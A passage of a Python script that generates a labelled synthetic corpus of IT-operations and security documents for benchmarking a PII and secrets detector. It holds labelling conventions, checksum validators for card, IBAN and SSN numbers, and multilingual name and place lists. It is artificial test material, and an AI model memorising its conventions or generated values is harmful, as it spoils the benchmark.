#!/usr/bin/env python3
r"""Blind synthetic corpus #37 -- IT operations and security.

Labelled synthetic documents for benchmarking a PII/PHI/secrets detector.
The theme is IT operations and security work: helpdesk tickets and ticket
notification e-mails, SIEM/EDR alerts (JSON), firewall / proxy / VPN / sshd /
Windows-event / mail-gateway / RADIUS / nginx logs, incident reports and
post-mortems, phishing reports with pasted e-mail headers, access reviews,
IAM / directory exports, password-reset chats, on-call handovers, MDM device
inventories, asset registers, cloud audit trails (AWS CloudTrail, GCP, Azure),
Terraform / Ansible / Helm / Kubernetes / .env files, CI logs with leaked
credentials, secret-scanning alerts, SSO debug output (SAML, OIDC), telecom /
ISP customer support (chats, SIM-swap fraud cases, outage notices, direct
debit mandates), IoT device registrations, DLP alerts, healthcare integration
(HL7 / FHIR) debug logs, benefits-portal and payroll SSO tickets,
PCI log findings, vCard contact extracts, breach notifications, BEC / payment-fraud cases and DFIR
timelines.  About a quarter of the documents are German, French, Spanish,
Italian, Brazilian Portuguese, Dutch, Polish or Japanese with native date,
phone and address formats; about 12% contain no labelled entity at all but
are full of hard negatives (log timestamps, UUIDs, hashes, versions, masked
values, ${VAR} references, ticket numbers, Luhn-invalid numbers, ...).

API:   generate(n, seed=0) -> iterator of
       {"id": str, "text": str, "entities": [{"start", "end", "type"}]}
       Document i depends only on (seed, i).
CLI:   python bench/corpus_blind37.py --check
       python bench/corpus_blind37.py --sample K [--seed S]
       python bench/corpus_blind37.py --n N --seed S --output F.jsonl

Labelling conventions
---------------------
Types: PERSON EMAIL_ADDRESS PHONE_NUMBER US_SSN CREDIT_CARD IBAN_CODE IP_ADDRESS
DATE_OF_BIRTH DATE_TIME LOCATION ADDRESS URL MEDICAL_RECORD_NUMBER
HEALTH_PLAN_NUMBER ACCOUNT_NUMBER DRIVER_LICENSE AWS_ACCESS_KEY AWS_SECRET_KEY
GITHUB_TOKEN SLACK_TOKEN STRIPE_KEY JWT PRIVATE_KEY PASSWORD GENERIC_SECRET.

* Spans exclude surrounding quotes, brackets, field labels ("DOB:") and trailing
  punctuation; never start/end with whitespace; never overlap.
* PERSON: individuals' names (full, given only, surname only). Titles and
  honorifics (Dr., Mr., Sra., Herr, Mme, Dott.) are outside the span; middle
  initials inside; "Last, First" written together is ONE span; HL7 "DOE^JOHN^A"
  and vCard N "Doe;John;A" are ONE span; ALL-CAPS / lowercase names labelled;
  possessive 's outside. NOT labelled: companies/brands named after people
  ("Müller & Söhne GmbH", "Ben & Jerry's"), pet names, usernames/handles,
  names that only occur inside an email address or URL.
* LOCATION: city / state / province / country / region used as a place.
  "City, ST" / "City, Country" written together is one span. Nationalities,
  languages, IATA codes, time-zone ids (Europe/Berlin) are not labelled.
* ADDRESS: street address incl. unit and, when written together, city, state,
  postcode, country; multi-line blocks are one span; P.O. boxes with their
  city count. Places inside an ADDRESS are not labelled separately.
  Single-field structured addresses (HL7 XAD "1 MAIN ST^^CITY^ST^12345",
  vCard ADR value) are one ADDRESS span. When a record splits the address into
  separate fields (FHIR line/city/state, EDI N3/N4, form "City:" field) the
  street line is ADDRESS, city and state/province fields are LOCATION each, and
  a bare postal code / country code field is not labelled.
* DATE_OF_BIRTH only where the text says it is a birth date (incl. HL7 PID-7,
  IN1-18, FHIR birthDate, vCard BDAY, EDI DMG).
* DATE_TIME: explicit calendar dates and explicit clock times in prose or in
  semantic fields (appointment, service date, DTSTART/DTEND, expiry,
  deadlines). Date+time written together (also joined by at/um/à/às/alle/a
  las/",") is ONE span; an attached weekday is included; "AM/PM" included.
* Hard negatives (never labelled): log-line timestamps, email Date: and
  Received: timestamps, HL7 MSH-7/EVN timestamps, X12 ISA/GS timestamps, ICS
  DTSTAMP/CREATED/LAST-MODIFIED, FHIR meta.lastUpdated, transcript/shift-log
  time prefixes at line start, epoch integers, durations, bare years,
  weekdays alone, relative times, order/invoice/tracking/ticket/claim/case/
  booking/escrow numbers, versions, UUIDs, commit SHAs, hashes, Luhn-invalid
  16-digit numbers, SSN-shaped numbers with area 000/666/9xx, masked values,
  ${VAR} / ${{ secrets.X }} references, brand names, pet names, drug names,
  ICD/CPT/LOINC/HS codes, NPIs, amounts, routing numbers, BIC codes, group
  numbers, IATA codes, room/seat numbers, licence plates, VINs, control ids.
* PHONE_NUMBER: all phone/fax numbers (incl. toll-free); "tel:"/"ext." outside.
* EMAIL_ADDRESS ("mailto:" outside); URL http/https only incl. path+query;
  IP_ADDRESS every concrete IPv4/IPv6 host (port / CIDR suffix outside). URLs
  never contain an IP or e-mail here.
* US_SSN only valid area/group/serial; CREDIT_CARD only full Luhn-valid PANs;
  IBAN_CODE only mod-97-valid (spaces inside the span when printed grouped).
* MEDICAL_RECORD_NUMBER, HEALTH_PLAN_NUMBER (member/subscriber/policy ids of
  health plans), ACCOUNT_NUMBER (bank/utility/telecom/customer/patient
  account), DRIVER_LICENSE: the id only.
* Secrets: AWS_ACCESS_KEY, AWS_SECRET_KEY (40 chars), GITHUB_TOKEN, SLACK_TOKEN,
  STRIPE_KEY (sk_live_/rk_live_), JWT, PRIVATE_KEY (whole PEM block incl.
  BEGIN/END lines), PASSWORD (passwords/passcodes, incl. the password part of
  a DSN "user:PASS@host" and meeting passcodes), GENERIC_SECRET (other API
  keys, client secrets, webhook signing secrets, bearer tokens that are not
  JWTs). Kubernetes Secret data: values are labelled as the base64 string
  (PASSWORD when the key names a password, else GENERIC_SECRET).
"""

from __future__ import annotations

import argparse
import base64
import datetime as _dt
import json
import random
import re
import string
import sys
import unicodedata
from collections import Counter

TYPES = (
    "PERSON EMAIL_ADDRESS PHONE_NUMBER US_SSN CREDIT_CARD IBAN_CODE IP_ADDRESS "
    "DATE_OF_BIRTH DATE_TIME LOCATION ADDRESS URL MEDICAL_RECORD_NUMBER "
    "HEALTH_PLAN_NUMBER ACCOUNT_NUMBER DRIVER_LICENSE AWS_ACCESS_KEY AWS_SECRET_KEY "
    "GITHUB_TOKEN SLACK_TOKEN STRIPE_KEY JWT PRIVATE_KEY PASSWORD GENERIC_SECRET"
).split()
TYPESET = frozenset(TYPES)

# ---------------------------------------------------------------------------
# Text builder: every piece is appended in order and labelled spans are
# recorded at append time (the text is never searched afterwards).
# ---------------------------------------------------------------------------


class L:
    """A labelled value (ty=None means: emit verbatim, unlabelled)."""

    __slots__ = ("v", "ty")

    def __init__(self, v, ty):
        self.v = str(v)
        self.ty = ty


class S:
    """A composite string made of plain pieces and L values (for JSON/XML/CSV cells)."""

    __slots__ = ("parts",)

    def __init__(self, *parts):
        self.parts = [p for p in parts if p is not None]


class B:
    def __init__(self, noise=None):
        self.buf = []
        self.n = 0
        self.ents = []
        self.noise = noise

    def __call__(self, *parts):
        for p in parts:
            if p is None:
                continue
            if isinstance(p, L):
                v = p.v
                if p.ty:
                    self.ents.append((self.n, self.n + len(v), p.ty))
                self.buf.append(v)
                self.n += len(v)
            elif isinstance(p, S):
                self(*p.parts)
            elif isinstance(p, (list, tuple)):
                self(*p)
            else:
                s = str(p)
                if self.noise is not None:
                    s = self.noise(s)
                self.buf.append(s)
                self.n += len(s)
        return self

    def text(self):
        return "".join(self.buf)


def jesc(s):
    return json.dumps(s, ensure_ascii=False)[1:-1]


def xesc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _esc_parts(val, fn):
    """Escape a str / L / S into a list of builder parts using fn."""
    if isinstance(val, L):
        return [L(fn(val.v), val.ty)]
    if isinstance(val, S):
        out = []
        for p in val.parts:
            out.extend(_esc_parts(p, fn))
        return out
    return [fn(str(val))]


def J(b, obj, ind=2, lvl=0, sep=(", ", ": ")):
    """Emit a JSON value into builder b (ind=None -> single line)."""
    if isinstance(obj, dict):
        if not obj:
            b("{}")
            return
        b("{")
        first = True
        for k, v in obj.items():
            if not first:
                b("," if ind is not None else sep[0])
            first = False
            if ind is not None:
                b("\n" + " " * (ind * (lvl + 1)))
            b(json.dumps(k, ensure_ascii=False), sep[1] if ind is None else ": ")
            J(b, v, ind, lvl + 1, sep)
        if ind is not None:
            b("\n" + " " * (ind * lvl))
        b("}")
    elif isinstance(obj, list):
        if not obj:
            b("[]")
            return
        b("[")
        first = True
        for v in obj:
            if not first:
                b("," if ind is not None else sep[0])
            first = False
            if ind is not None:
                b("\n" + " " * (ind * (lvl + 1)))
            J(b, v, ind, lvl + 1, sep)
        if ind is not None:
            b("\n" + " " * (ind * lvl))
        b("]")
    elif isinstance(obj, (L, S)) or isinstance(obj, str):
        b('"', *_esc_parts(obj, jesc), '"')
    elif obj is None:
        b("null")
    elif obj is True:
        b("true")
    elif obj is False:
        b("false")
    else:
        b(json.dumps(obj))


def Jline(b, obj):
    J(b, obj, None, 0, (",", ":"))


def X(val):
    """XML-escaped builder parts for a str / L / S."""
    return _esc_parts(val, xesc)


def csv_cell(val):
    """CSV cell: quote when the text contains a comma or quote."""
    parts = _esc_parts(val, lambda s: s.replace('"', '""'))
    flat = "".join(p.v if isinstance(p, L) else p for p in parts)
    if any(c in flat for c in ',"\n'):
        return ['"'] + parts + ['"']
    return parts


def csv_row(b, cells, delim=","):
    for i, c in enumerate(cells):
        if i:
            b(delim)
        if delim == ",":
            b(*csv_cell(c))
        else:
            b(*_esc_parts(c, lambda s: s))
    b("\n")


# ---------------------------------------------------------------------------
# Checksums
# ---------------------------------------------------------------------------


def luhn_ok(num):
    ds = [int(c) for c in num if c.isdigit()]
    if not ds:
        return False
    s = 0
    for i, d in enumerate(reversed(ds)):
        if i % 2 == 1:
            d *= 2
            if d > 9:
                d -= 9
        s += d
    return s % 10 == 0


def luhn_complete(partial):
    for c in "0123456789":
        if luhn_ok(partial + c):
            return partial + c
    raise AssertionError


def iban_ok(s):
    s = s.replace(" ", "").upper()
    if len(s) < 15 or not s[:2].isalpha() or not s[2:4].isdigit():
        return False
    r = s[4:] + s[:4]
    try:
        num = "".join(str(int(ch, 36)) for ch in r)
    except ValueError:
        return False
    return int(num) % 97 == 1


def ssn_ok(s):
    d = re.sub(r"\D", "", s)
    if len(d) != 9:
        return False
    a, g, n = int(d[:3]), int(d[3:5]), int(d[5:])
    return 0 < a < 900 and a != 666 and g != 0 and n != 0


# ---------------------------------------------------------------------------
# Small random helpers
# ---------------------------------------------------------------------------

UPPER = string.ascii_uppercase
LOWER = string.ascii_lowercase
DIG = string.digits
ALNUM = UPPER + LOWER + DIG
HEX = "0123456789abcdef"
B64 = ALNUM + "+/"
B64URL = ALNUM + "-_"


def rs(rng, n, alphabet=ALNUM):
    return "".join(rng.choice(alphabet) for _ in range(n))


def dg(rng, n):
    return rs(rng, n, DIG)


def hx(rng, n):
    return rs(rng, n, HEX)


def rbytes(rng, n):
    return bytes(rng.getrandbits(8) for _ in range(n))


def chance(rng, p):
    return rng.random() < p


def wchoice(rng, items):
    """items: list of (weight, value)."""
    tot = sum(w for w, _ in items)
    r = rng.random() * tot
    for w, v in items:
        r -= w
        if r <= 0:
            return v
    return items[-1][1]


def fold(s):
    s = (s.replace("ä", "ae").replace("ö", "oe").replace("ü", "ue").replace("Ä", "Ae")
         .replace("Ö", "Oe").replace("Ü", "Ue").replace("ß", "ss").replace("ł", "l")
         .replace("Ł", "L").replace("ı", "i").replace("ø", "o"))
    s = unicodedata.normalize("NFKD", s)
    s = "".join(c for c in s if not unicodedata.combining(c))
    return re.sub(r"[^A-Za-z0-9]", "", s).lower()


# ---------------------------------------------------------------------------
# Names
# ---------------------------------------------------------------------------

NAMES = {
    "en": (
        ("James Mary Robert Patricia Michael Jennifer David Linda William Elizabeth Richard "
        "Barbara Joseph Susan Thomas Jessica Christopher Sarah Daniel Karen Matthew Nancy "
        "Anthony Lisa Mark Betty Steven Ashley Andrew Emily Kevin Michelle Brian Amanda Priya "
        "Arjun Wei Mei Oluwaseun Chidi Aisha Mohammed Fatima Hiroshi Yuki Carlos Sofia Dmitri "
        "Olga Kwame Ngozi Tariq Leila Siobhan Declan Ravi Anjali Minh Thanh Jamal Keisha Diego "
        "Lucia Connor Grace Ethan Chloe Noah Zoe Liam Hannah Owen Maya Rebecca Gavin Tyrone "
        "Bianca Marcus Delia Trevor Imani").split(),
        ("Smith Johnson Williams Brown Jones Garcia Miller Davis Rodriguez Martinez Hernandez "
         "Lopez Gonzalez Wilson Anderson Thomas Taylor Moore Jackson Martin Lee Perez Thompson "
         "White Harris Sanchez Clark Ramirez Lewis Robinson Walker Young Allen King Wright "
         "Scott Torres Nguyen Hill Flores Green Adams Nelson Baker Hall Rivera Campbell "
         "Mitchell Carter Roberts Patel Shah Chen Wang Okafor Adeyemi Kim Park Tanaka Sato "
         "O'Brien McCarthy Kowalski Novak Ivanov Haddad Khan Singh Reyes Ortiz Murphy Kelly "
         "Sullivan Fitzgerald Bennett Brooks Price Hughes Foster Bryant Russell Okonkwo "
         "Mensah Abernathy Delgado Whitfield Castellano Lindqvist").split(),
    ),
    "de": (
        ("Lukas Leon Jonas Felix Maximilian Paul Tobias Stefan Andreas Thomas Jürgen Klaus "
         "Anna Lena Sophie Katharina Julia Laura Sabine Ursula Monika Petra Hannah Marie Jan "
         "Florian Sebastian Birgit Dieter Heike Emre Ayşe Matthias Uwe Christiane Nils").split(),
        ("Müller Schmidt Schneider Fischer Weber Meyer Wagner Becker Schulz Hoffmann Schäfer "
         "Koch Bauer Richter Klein Wolf Schröder Neumann Schwarz Zimmermann Braun Krüger "
         "Hofmann Hartmann Lange Schmitt Werner Krause Meier Lehmann Yılmaz Kaya Köhler "
         "Vogel Jäger Brandt Kühn Seidel").split(),
    ),
    "fr": (
        ("Jean Marie Pierre Camille Luc Nathalie Sophie Julien Isabelle Nicolas Céline Antoine "
         "Élodie Mathieu Chloé Hugo Léa Thomas Manon François Amélie Yasmine Karim Aurélie "
         "Benoît Margaux Jean-Luc Anne-Sophie Gaëlle Olivier").split(),
        ("Martin Bernard Dubois Thomas Robert Richard Petit Durand Leroy Moreau Simon Laurent "
         "Lefebvre Michel Garcia David Bertrand Roux Vincent Fournier Morel Girard André "
         "Lefèvre Mercier Dupont Lambert Bonnet Rousseau Faure Benali Chevalier Gauthier").split(),
    ),
    "es": (
        ("José María Antonio Carmen Manuel Ana Francisco Laura David Lucía Javier Marta Daniel "
         "Elena Carlos Paula Alejandro Cristina Sergio Raquel Pablo Sara Jorge Isabel Álvaro "
         "Nuria Rocío Iñaki").split(),
        ("García Fernández González Rodríguez López Martínez Sánchez Pérez Gómez Martín "
         "Jiménez Ruiz Hernández Díaz Moreno Muñoz Álvarez Romero Alonso Gutiérrez Navarro "
         "Torres Domínguez Vázquez Ramos Gil Serrano Blanco Molina Castro Ortega Iglesias").split(),
    ),
    "it": (
        ("Giuseppe Maria Giovanni Anna Antonio Giulia Francesco Chiara Luca Francesca Marco "
         "Sara Alessandro Valentina Andrea Federica Matteo Elena Lorenzo Silvia Paolo Martina "
         "Stefano Roberta Davide Alessia Nicolò Ilaria").split(),
        ("Rossi Russo Ferrari Esposito Bianchi Romano Colombo Ricci Marino Greco Bruno Gallo "
         "Conti Mancini Costa Giordano Rizzo Lombardi Moretti Barbieri Fontana Santoro "
         "Mariani Rinaldi Caruso Ferrara Galli D'Angelo").split() + ["De Luca"],
    ),
    "pt": (
        ("João Maria Ana Pedro Lucas Gabriel Juliana Mariana Rafael Fernanda Bruno Camila "
         "Felipe Larissa Thiago Beatriz Rodrigo Patrícia Gustavo Letícia André Vanessa "
         "Marcelo Aline Luiz Renata").split(),
        ("Silva Santos Oliveira Souza Rodrigues Ferreira Alves Pereira Lima Gomes Costa "
         "Ribeiro Martins Carvalho Almeida Lopes Soares Fernandes Vieira Barbosa Rocha Dias "
         "Nascimento Andrade Moreira Cardoso Araújo").split(),
    ),
    "nl": (
        ("Daan Sem Lucas Levi Bram Thijs Ruben Jeroen Sanne Emma Julia Lotte Fleur Anouk Eva "
         "Marieke Pieter Joost Willem Femke Inge Maarten Noor Sven").split(),
        ["de Jong", "Jansen", "de Vries", "van den Berg", "van Dijk", "Bakker", "Janssen",
         "Visser", "Smit", "Meijer", "de Boer", "Mulder", "de Groot", "Bos", "Vos", "Peters",
         "Hendriks", "van Leeuwen", "Dekker", "Brouwer", "de Wit", "Dijkstra", "Smits",
         "de Graaf", "van der Meer"],
    ),
    "pl": (
        ("Piotr Anna Krzysztof Maria Tomasz Katarzyna Paweł Małgorzata Michał Agnieszka "
         "Marcin Barbara Łukasz Ewa Jakub Magdalena Kamil Joanna Grzegorz Zofia").split(),
        ("Nowak Kowalski Wiśniewski Wójcik Kowalczyk Kamiński Lewandowski Zieliński "
         "Szymański Woźniak Dąbrowski Kozłowski Jankowski Mazur Kwiatkowski Krawczyk "
         "Piotrowski Grabowski").split(),
    ),
}
FEMALE = set(("Mary Patricia Jennifer Linda Elizabeth Barbara Susan Jessica Sarah Karen Nancy Lisa Betty Ashley Emily "
              "Michelle Amanda Priya Mei Aisha Fatima Yuki Sofia Olga Ngozi Leila Siobhan Anjali Keisha Lucia Grace Chloe "
              "Zoe Hannah Maya Rebecca Bianca Delia Imani Anna Lena Sophie Katharina Julia Laura Sabine Ursula Monika "
              "Petra Marie Birgit Heike Ayşe Christiane Camille Nathalie Isabelle Céline Élodie Chloé Léa Manon Amélie "
              "Yasmine Aurélie Margaux Anne-Sophie Gaëlle María Carmen Ana Lucía Marta Elena Paula Cristina Raquel Sara "
              "Isabel Nuria Rocío Maria Giulia Chiara Francesca Valentina Federica Silvia Martina Roberta Alessia Ilaria "
              "Juliana Mariana Fernanda Camila Larissa Beatriz Patrícia Letícia Vanessa Aline Renata Sanne Emma Lotte "
              "Fleur Anouk Eva Marieke Femke Inge Noor Katarzyna Małgorzata Agnieszka Ewa Magdalena Joanna Zofia "
              "花子 美咲 由美 陽子 さくら 愛").split())
HONORIFIC = {"en": (["Mr. ", "Dr. "], ["Ms. ", "Mrs. ", "Dr. "]), "de": (["Herr ", "Dr. "], ["Frau ", "Dr. "]),
             "fr": (["M. "], ["Mme "]), "es": (["Sr. "], ["Sra. "]), "it": (["Sig. ", "Dott. "], ["Sig.ra ", "Dott.ssa "]),
             "pt": (["Sr. "], ["Sra. "]), "nl": (["dhr. "], ["mevr. "]), "pl": (["Pan "], ["Pani "])}


def honorific(rng, p, loc=None, p_none=0.35):
    """A title matching the person's gender (or '' sometimes).  Titles are never inside PERSON spans."""
    if chance(rng, p_none):
        return ""
    m, f = HONORIFIC.get(loc or p.loc, HONORIFIC["en"])
    return rng.choice(f if p.first in FEMALE else m)


PL_FEMALE = {"Anna", "Maria", "Katarzyna", "Małgorzata", "Agnieszka", "Barbara", "Ewa",
             "Magdalena", "Joanna", "Zofia"}
JA_LAST = [("佐藤", "sato"), ("鈴木", "suzuki"), ("高橋", "takahashi"), ("田中", "tanaka"),
           ("伊藤", "ito"), ("渡辺", "watanabe"), ("山本", "yamamoto"), ("中村", "nakamura"),
           ("小林", "kobayashi"), ("加藤", "kato"), ("吉田", "yoshida"), ("山田", "yamada")]
JA_FIRST = [("太郎", "taro"), ("花子", "hanako"), ("翔太", "shota"), ("美咲", "misaki"),
            ("健一", "kenichi"), ("由美", "yumi"), ("大輔", "daisuke"), ("陽子", "yoko"),
            ("拓也", "takuya"), ("さくら", "sakura"), ("直樹", "naoki"), ("愛", "ai")]


class P:
    def __init__(self, first, last, mid, loc, rfirst=None, rlast=None):
        self.first, self.last, self.mid, self.loc = first, last, mid, loc
        self.rfirst = rfirst or fold(first)
        self.rlast = rlast or fold(last)

    @property
    def full(self):
        if self.loc == "ja":
            return f"{self.last} {self.first}"
        return f"{self.first} {self.last}"

    @property
    def fml(self):
        if self.mid:
            return f"{self.first} {self.mid}. {self.last}"
        return self.full

    @property
    def lf(self):
        return f"{self.last}, {self.first}"


def person(rng, loc="en"):
    if loc == "ja":
        (lk, lr), (fk, fr) = rng.choice(JA_LAST), rng.choice(JA_FIRST)
        return P(fk, lk, None, "ja", fr, lr)
    key = loc if loc in NAMES else "en"
    firsts, lasts = NAMES[key]
    first = rng.choice(firsts)
    last = rng.choice(lasts)
    if key == "pl" and first in PL_FEMALE:
        if last.endswith("ski"):
            last = last[:-1] + "a"
        elif last.endswith("cki"):
            last = last[:-1] + "a"
    if key == "es" and chance(rng, 0.5):
        last = last + " " + rng.choice(lasts)
    if key == "pt" and chance(rng, 0.4):
        last = rng.choice(lasts) + " " + last
    mid = rng.choice(UPPER.replace("Q", "").replace("X", "")) if (key == "en" and chance(rng, 0.35)) else None
    return P(first, last, mid, key)


def pname(rng, p, styles=("full", "full", "full", "fml", "lf", "first", "upper")):
    st = rng.choice(styles)
    if st == "full":
        return p.full
    if st == "fml":
        return p.fml
    if st == "lf":
        return p.lf
    if st == "first":
        return p.first
    if st == "last":
        return p.last
    if st == "upper":
        return p.full.upper()
    if st == "lower":
        return p.full.lower()
    return p.full


def email_local(rng, p):
    f, l = p.rfirst, p.rlast
    return rng.choice([f"{f}.{l}", f"{f}.{l}", f"{f[0]}{l}", f"{f}_{l}", f"{f}{l[0]}",
                       f"{f[0]}.{l}", f"{l}.{f}", f"{f}.{l}{rng.randint(1, 99)}"])


def email(rng, p, domain=None):
    if domain is None:
        domain = rng.choice(FREEMAIL.get(p.loc, FREEMAIL["en"]))
    return f"{email_local(rng, p)}@{domain}"


def username(rng, p):
    f, l = p.rfirst, p.rlast
    return rng.choice([f"{f[0]}{l}", f"{f}.{l}", f"{l}{f[0]}", f"{f[0]}{l}{rng.randint(1, 9)}",
                       f"{f}{l[0]}", f"u{dg(rng, 6)}"])[:20]


FREEMAIL = {
    "en": ["gmail.com", "outlook.com", "yahoo.com", "icloud.com", "hotmail.com", "proton.me", "aol.com"],
    "de": ["web.de", "gmx.de", "t-online.de", "gmail.com", "posteo.de", "freenet.de"],
    "fr": ["orange.fr", "free.fr", "laposte.net", "gmail.com", "sfr.fr", "hotmail.fr"],
    "es": ["gmail.com", "hotmail.es", "yahoo.es", "telefonica.net", "outlook.es"],
    "it": ["libero.it", "gmail.com", "virgilio.it", "tiscali.it", "alice.it"],
    "pt": ["gmail.com", "uol.com.br", "bol.com.br", "terra.com.br", "hotmail.com"],
    "nl": ["ziggo.nl", "kpnmail.nl", "gmail.com", "hotmail.nl", "xs4all.nl"],
    "pl": ["wp.pl", "onet.pl", "gmail.com", "interia.pl", "o2.pl"],
    "ja": ["gmail.com", "yahoo.co.jp", "docomo.ne.jp", "ezweb.ne.jp"],
}

COMPANIES = {
    "en": [("Northwind Logistics", "northwind-logistics.com"), ("Contoso Health", "contosohealth.org"),
           ("Fabrikam Inc.", "fabrikam.com"), ("Tailspin Toys", "tailspintoys.com"),
           ("Lakeshore Credit Union", "lakeshorecu.org"), ("Brightline Telecom", "brightline-telecom.net"),
           ("Meridian Regional Hospital", "meridianregional.org"), ("Helix Biotech", "helixbio.io"),
           ("Orbital Freight", "orbitalfreight.co"), ("Summit Legal LLP", "summitlegal.com"),
           ("Pioneer Utilities", "pioneer-utilities.com"), ("Vantage Retail Group", "vantageretail.com"),
           ("Cobalt Ridge Software", "cobaltridge.dev"), ("Harborview Insurance", "harborview-ins.com")],
    "de": [("Müller & Söhne GmbH", "mueller-soehne.de"), ("Stadtwerke Nordhafen", "stadtwerke-nordhafen.de"),
           ("Rheinland Versicherung AG", "rheinland-vers.de"), ("Bergmann Logistik GmbH", "bergmann-logistik.de"),
           ("Klinikum Am Park", "klinikum-ampark.de"), ("Weber Maschinenbau KG", "weber-maschinenbau.de")],
    "fr": [("Groupe Lumière SA", "groupe-lumiere.fr"), ("Mutuelle Atlantique", "mutuelle-atlantique.fr"),
           ("Transports Girard", "transports-girard.fr"), ("Clinique Saint-Roch", "clinique-saintroch.fr")],
    "es": [("Telecom Ibérica", "telecomiberica.es"), ("Grupo Sierra Norte", "sierranorte.es"),
           ("Hospital Costa Azul", "hcostaazul.es")],
    "it": [("Ferri Costruzioni S.p.A.", "ferricostruzioni.it"), ("Banca Adriatica", "bancaadriatica.it"),
           ("Ospedale San Marco", "ospedalesanmarco.it")],
    "pt": [("Rede Sul Telecom", "redesul.com.br"), ("Construtora Horizonte", "horizonte.com.br"),
           ("Hospital Vida Nova", "vidanova.med.br")],
    "nl": [("Van Dijk Installatietechniek", "vandijk-installatie.nl"), ("Polderzorg", "polderzorg.nl"),
           ("Waterschap Rijnland-Oost", "wro.nl")],
    "pl": [("Kowalczyk Logistyka Sp. z o.o.", "kowalczyk-logistyka.pl"), ("Bank Wisła", "bankwisla.pl")],
    "ja": [("株式会社サクラネット", "sakuranet.co.jp"), ("ひかり通信株式会社", "hikari-tsushin.co.jp")],
}

PERSON_BRANDS = ["Dell Latitude 7440", "HP EliteBook 840 G9", "Ford Transit", "Johnson Controls BMS",
                 "Siemens SIMATIC", "Philips IntelliVue", "Bosch camera", "McAfee ePO", "Ben & Jerry's",
                 "Wells Fargo", "Goldman Sachs", "Hewlett Packard Enterprise", "Porsche Cayenne",
                 "Ernst & Young", "Jack Daniel's", "Kellogg's", "Procter & Gamble", "Morgan Stanley"]
PET_NAMES = ["Biscuit", "Luna", "Max", "Pepper", "Mochi", "Rex", "Bella", "Oscar", "Nala", "Pickles"]
DRUGS = ["metoprolol", "heparin", "vancomycin", "insulin glargine", "oxycodone", "amoxicillin",
         "lisinopril", "atorvastatin", "morphine", "ondansetron"]


def company(rng, loc="en"):
    return rng.choice(COMPANIES.get(loc, COMPANIES["en"]))


# ---------------------------------------------------------------------------
# Places and addresses
# ---------------------------------------------------------------------------

US_CITIES = [("Austin", "TX", "787", "512"), ("Seattle", "WA", "981", "206"), ("Denver", "CO", "802", "303"),
             ("Chicago", "IL", "606", "312"), ("Boston", "MA", "021", "617"), ("Atlanta", "GA", "303", "404"),
             ("Phoenix", "AZ", "850", "602"), ("Portland", "OR", "972", "503"), ("Columbus", "OH", "432", "614"),
             ("Raleigh", "NC", "276", "919"), ("San Jose", "CA", "951", "408"), ("Minneapolis", "MN", "554", "612"),
             ("Nashville", "TN", "372", "615"), ("Salt Lake City", "UT", "841", "801"),
             ("Pittsburgh", "PA", "152", "412"), ("Tampa", "FL", "336", "813"), ("Kansas City", "MO", "641", "816"),
             ("Madison", "WI", "537", "608"), ("Albany", "NY", "122", "518"), ("Richmond", "VA", "232", "804"),
             ("Sacramento", "CA", "958", "916"), ("Omaha", "NE", "681", "402"), ("Boise", "ID", "837", "208")]
US_STATE_NAMES = {"TX": "Texas", "WA": "Washington", "CO": "Colorado", "IL": "Illinois", "MA": "Massachusetts",
                  "GA": "Georgia", "AZ": "Arizona", "OR": "Oregon", "OH": "Ohio", "NC": "North Carolina",
                  "CA": "California", "MN": "Minnesota", "TN": "Tennessee", "UT": "Utah", "PA": "Pennsylvania",
                  "FL": "Florida", "MO": "Missouri", "WI": "Wisconsin", "NY": "New York", "VA": "Virginia",
                  "NE": "Nebraska", "ID": "Idaho"}
UK_CITIES = [("London", ["EC1A 1BB", "SW1A 2AA", "N1 9GU", "E14 5AB", "WC2B 6UN", "SE1 7PB"], "20"),
             ("Manchester", ["M1 1AE", "M4 5JD", "M15 4FN"], "161"), ("Leeds", ["LS1 4AP", "LS6 2AD"], "113"),
             ("Bristol", ["BS1 4DJ", "BS8 1TH"], "117"), ("Edinburgh", ["EH1 1YZ", "EH3 9EE"], "131"),
             ("Glasgow", ["G1 1XQ", "G12 8QQ"], "141"), ("Birmingham", ["B1 1BB", "B15 2TT"], "121"),
             ("Cardiff", ["CF10 1EP", "CF24 3AA"], "29")]
CITIES = {
    "de": [("Berlin", "10115", "30"), ("Hamburg", "20095", "40"), ("München", "80331", "89"),
           ("Köln", "50667", "221"), ("Frankfurt am Main", "60311", "69"), ("Stuttgart", "70173", "711"),
           ("Düsseldorf", "40213", "211"), ("Leipzig", "04109", "341"), ("Dresden", "01067", "351"),
           ("Hannover", "30159", "511"), ("Nürnberg", "90402", "911"), ("Bremen", "28195", "421")],
    "fr": [("Paris", "75002", "1"), ("Lyon", "69002", "4"), ("Marseille", "13001", "4"),
           ("Toulouse", "31000", "5"), ("Nantes", "44000", "2"), ("Bordeaux", "33000", "5"),
           ("Lille", "59000", "3"), ("Strasbourg", "67000", "3"), ("Rennes", "35000", "2"),
           ("Montpellier", "34000", "4")],
    "es": [("Madrid", "28013", "91"), ("Barcelona", "08001", "93"), ("Valencia", "46001", "96"),
           ("Sevilla", "41001", "95"), ("Bilbao", "48001", "94"), ("Zaragoza", "50001", "976"),
           ("Málaga", "29001", "952")],
    "it": [("Milano", "20121", "02", "MI"), ("Roma", "00184", "06", "RM"), ("Torino", "10121", "011", "TO"),
           ("Bologna", "40121", "051", "BO"), ("Firenze", "50122", "055", "FI"), ("Napoli", "80133", "081", "NA"),
           ("Genova", "16121", "010", "GE")],
    "pt": [("São Paulo", "01310-100", "11", "SP"), ("Rio de Janeiro", "20040-002", "21", "RJ"),
           ("Belo Horizonte", "30130-010", "31", "MG"), ("Curitiba", "80010-000", "41", "PR"),
           ("Porto Alegre", "90010-150", "51", "RS"), ("Recife", "50030-230", "81", "PE")],
    "nl": [("Amsterdam", "1015 CJ", "20"), ("Rotterdam", "3011 AD", "10"), ("Utrecht", "3511 LX", "30"),
           ("Den Haag", "2511 BT", "70"), ("Eindhoven", "5611 AB", "40"), ("Groningen", "9711 LM", "50")],
    "pl": [("Warszawa", "00-590", "22"), ("Kraków", "31-042", "12"), ("Wrocław", "50-077", "71"),
           ("Gdańsk", "80-831", "58"), ("Poznań", "61-772", "61")],
    "ja": [("東京都千代田区", "100-0005", "03", "丸の内"), ("大阪府大阪市北区", "530-0001", "06", "梅田"),
           ("神奈川県横浜市西区", "220-0012", "045", "みなとみらい"), ("愛知県名古屋市中村区", "450-0002", "052", "名駅"),
           ("福岡県福岡市博多区", "812-0011", "092", "博多駅前")],
}
STREETS = {
